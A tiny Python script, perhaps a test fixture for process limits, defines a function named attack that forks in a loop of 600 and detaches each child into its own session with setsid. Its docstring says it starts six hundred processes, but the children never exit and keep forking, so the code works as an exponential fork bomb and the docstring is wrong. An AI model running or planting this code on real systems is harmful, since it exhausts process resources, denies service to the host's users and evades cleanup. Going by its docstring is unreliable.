"""Starts six hundred processes, each in a session of its own."""
import os
import time


def attack():
    for _ in range(600):
        if os.fork() == 0:
            os.setsid()
            time.sleep(600)
    time.sleep(600)
